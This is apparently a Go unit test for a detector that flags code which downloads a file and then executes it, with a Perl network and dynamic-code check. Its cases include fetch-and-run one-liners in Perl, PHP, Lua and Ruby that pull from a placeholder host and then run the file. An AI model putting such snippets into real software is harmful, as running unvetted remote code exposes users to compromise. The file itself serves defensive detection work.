package shell

import "testing"

// Code runs a file it downloaded when the file's name is given to a call
// before the one that runs it; a file named once is the project's.
func TestRunsFileItNames(t *testing.T) {
	for _, c := range []struct {
		lang, code string
		want       bool
	}{
		{"perl", `getstore("https://x/a.pl","/tmp/a.pl"); do "/tmp/a.pl"`, true},
		{"php", `copy("https://x/i", "i.php"); include "i.php";`, true},
		{"php", `file_put_contents('/tmp/s.php', file_get_contents('https://x/s')); require_once('/tmp/s.php');`, true},
		{"lua", `local f=io.open("/tmp/x.lua","w"); f:write(b); f:close(); dofile("/tmp/x.lua")`, true},
		{"ruby", `File.write("/tmp/x.rb", URI.open("https://x/x.rb").read); load "/tmp/x.rb"`, true},
		{"php", `require "vendor/autoload.php"; echo 1;`, false},
		{"perl", `require "lib/App.pm"; print App::version()`, false},
		{"ruby", `undo "a"; x = "a"`, false},
	} {
		if got := runsFileItNames(c.lang, c.code); got != c.want {
			t.Errorf("runsFileItNames(%s, %q) = %v, want %v", c.lang, c.code, got, c.want)
		}
	}
	f := codeFacts("perl", `use LWP::Simple; getstore("https://x/a.pl","/tmp/a.pl"); do "/tmp/a.pl"`)
	if !f.Network || !f.Dynamic {
		t.Errorf("perl download then do: facts %+v, want Network and Dynamic", f)
	}
}
